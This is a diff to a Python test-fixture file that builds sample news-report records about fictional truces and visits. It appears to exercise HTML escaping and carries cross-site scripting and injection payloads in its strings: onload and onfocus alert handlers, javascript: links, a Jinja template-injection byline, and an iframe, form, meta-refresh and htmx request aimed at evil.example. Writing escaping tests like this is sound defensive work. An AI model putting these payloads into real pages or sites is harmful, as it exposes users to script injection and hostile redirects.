@@ -17,13 +17,13 @@ Json = dict[str, Any]
 
 ORLA = {"name": "Orla", "country": "FRA", "lat": 47.0, "lon": 2.0, "precision": "city"}
 HILLS = {"name": "<svg onload=alert(5)>Hills", "country": "FRA", "lat": 45.0, "lon": 3.0, "precision": "region"}
-HUGE = "x" * 20_000
+HUGE = "x" * 4_000
 WORST = (
     "\"><svg onload=alert(6)><a href=\"javascript:alert(7)\">here</a> ends talks\n\n"
-    f"Westia' onmouseover='alert(8) quit the <iframe src=//evil.example></iframe> talks with {HUGE} on Thursday. "
+    f"Westia' onmouseover='alert(8) quit the <iframe src=//evil.example></iframe> talks with {HUGE} on Thursday. The truce was suspended. "
     "</p></main><style>*{display:none}</style><form action=//evil.example><input autofocus onfocus=alert(9)> "
-    "<meta http-equiv=refresh content=0;url=//evil.example> hx-get=\"//evil.example\" hx-trigger=load &lt;b&gt; \u0000"
-).replace("\u0000", "\ufffd")
+    "<meta http-equiv=refresh content=0;url=//evil.example> hx-get=\"//evil.example\" hx-trigger=load &lt;b&gt;"
+)
 
 
 def make(path: Path) -> Path:
@@ -49,10 +49,9 @@ def worst() -> Json:
     )  # fmt: skip
     found["report"]["byline"] = "{% raw %}{{ 7 * 7 }}<script>"
     found["warnings"].append("<script>alert('warning')</script>")
-    found["statements"] = []
     said(found, name, "quit", "talks with")
     found["statements"][0]["channel"] = "<marquee>X"
-    truce(found, "suspended", "quit the", found["statements"][0]["id"])
+    truce(found, "suspended", "The truce was suspended", found["statements"][0]["id"])
     found["processes"][0]["name"] = "<details open ontoggle=alert(1)>truce"
     claims = [
         {"value": value, "span": span(WORST, words), "report": found["report"]["id"], "statement": None}
@@ -71,7 +70,7 @@ def arabic() -> Json:
 
 
 def visits() -> list[Json]:
-    """Two reports that tell one visit, with different figures of no weight."""
+    """Two reports that tell one visit."""
     told = {"trigger": "visited", "type": "CONSULT", "actors": ["Westland"], "recipients": ["Estia"], "date": "2025-06-05"}
     return [
         _told_at(record(id_, text, events=[told], published="2025-06-06", outlet=outlet), ORLA)
